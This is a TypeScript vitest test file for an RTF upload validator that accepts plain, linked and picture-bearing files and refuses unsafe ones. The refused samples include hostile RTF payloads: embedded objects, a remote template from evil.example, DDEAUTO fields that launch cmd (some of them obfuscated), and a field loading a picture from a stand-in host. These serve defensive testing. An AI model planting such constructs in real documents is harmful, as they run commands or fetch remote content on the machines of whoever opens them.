import { expect, test } from 'vitest';
import type { RefusalCode } from '#contract/refusals.ts';
import { refuseUnsoundRtf } from './inspect-rtf.ts';

const rtf = (body = '') =>
  Buffer.from(`{\\rtf1\\ansi\\deff0 {\\fonttbl{\\f0 Arial;}}\\f0 Thabo, ${body}cashier.}`, 'latin1');

test.each<[string, Buffer]>([
  ['plain text', rtf()],
  ['a page number', rtf('{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}')],
  ['a link', rtf('{\\field{\\*\\fldinst HYPERLINK "https://example.co.za"}{\\fldrslt me}}')],
  ['a link with a telling word in it', rtf('{\\field{\\*\\fldinst HYPERLINK "https://example.co.za/link"}}')],
  ['a picture', rtf('{\\pict\\pngblip 89504e47}')],
  ['a picture in bytes, some of them braces', rtf('{\\pict\\pngblip\\bin4 {{{\\}')],
  ['letters by number, and braces as text', rtf("caf\\'e9 \\u233? \\{ \\} \\\\ ")],
  ['white space at its end', Buffer.concat([rtf(), Buffer.from('\r\n\0')])],
])('RTF with %s is sound', (_what, content) => {
  refuseUnsoundRtf(content);
});

test.each<[string, Buffer, RefusalCode]>([
  ['an object', rtf('{\\object\\objemb{\\*\\objdata 0105}}'), 'file.active'],
  ['an object that is spelt otherwise', rtf('{\\OBJDATA 0105}'), 'file.active'],
  ['an object deep inside', rtf(`${'{'.repeat(100)}\\objocx${'}'.repeat(100)}`), 'file.active'],
  ['an object behind bytes', rtf('{\\pict\\bin2 }}\\objupdate}'), 'file.active'],
  ['a template from elsewhere', rtf('{\\*\\template https://evil.example/x.dotm}'), 'file.active'],
  ['a field that starts a program', rtf('{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}}'), 'file.active'],
  ['such a field in pieces', rtf('{\\field{\\*\\fldinst {DDE}{\\b AUTO cmd}}}'), 'file.active'],
  ['such a field in letters by number', rtf("{\\field{\\*\\fldinst \\'44\\u68?EAUTO cmd}}"), 'file.active'],
  ['a field that another writes', rtf('{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68}}}}'), 'file.active'],
  ['a field that loads a file', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example"}}'), 'file.active'],
  ['no end', rtf().subarray(0, -1), 'file.damaged'],
  ['bytes beyond its end', rtf('{\\pict\\bin999999999 }'), 'file.damaged'],
  ['groups without end', Buffer.from(`{\\rtf1 ${'{'.repeat(100_000)}`), 'file.unsafe'],
  ['code behind it', Buffer.concat([rtf(), Buffer.from('<script>')]), 'file.unsafe'],
  ['more behind it', Buffer.concat([rtf(), rtf()]), 'file.unsafe'],
  ['another beginning', Buffer.from('{\\rtfx}'), 'file.wrong_bytes'],
])('RTF with %s is refused', (_what, content, code) => {
  expect(() => refuseUnsoundRtf(content)).toThrow(expect.objectContaining({ code }));
});

test.each(['\\', '{\\a', "\\'zz", '\\bin-5 ', '{', '\\bin1 ', 'x'])('5 MB of %j are read in no time', (part) => {
  const content = Buffer.from(`{\\rtf1 ${part.repeat(5_000_000 / part.length)}`, 'latin1');
  const started = performance.now();
  expect(() => refuseUnsoundRtf(content)).toThrow();
  expect(performance.now() - started).toBeLessThan(3000);
});
